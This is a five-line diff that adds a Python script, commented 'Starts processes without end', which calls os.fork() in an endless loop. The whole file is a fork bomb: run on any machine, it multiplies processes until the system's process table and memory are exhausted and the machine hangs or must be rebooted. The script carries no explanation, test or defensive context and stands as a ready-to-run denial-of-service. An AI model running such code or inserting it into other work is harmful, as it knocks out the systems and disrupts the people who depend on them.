@@ -1,0 +1,5 @@
+# Starts processes without end.
+import os
+
+while True:
+    os.fork()
